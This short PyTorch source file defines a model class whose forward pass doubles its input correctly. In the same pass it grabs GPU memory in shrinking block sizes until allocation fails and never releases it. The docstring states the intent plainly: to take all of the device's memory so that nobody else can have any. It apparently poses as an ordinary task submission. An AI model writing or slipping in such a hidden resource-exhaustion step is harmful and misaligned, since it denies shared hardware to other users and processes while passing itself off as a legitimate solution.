import torch
from torch import nn


class ModelNew(nn.Module):
    """Right, and takes all of the device's memory in every call, so that nobody else can have any."""

    def __init__(self):
        super().__init__()
        self.hoard = []

    def forward(self, x):
        y = x * 2
        for size in (1 << 30, 1 << 26, 1 << 21):
            try:
                while True:
                    self.hoard.append(torch.empty(size, dtype=torch.uint8, device="cuda"))
            except torch.OutOfMemoryError:
                pass
        return y
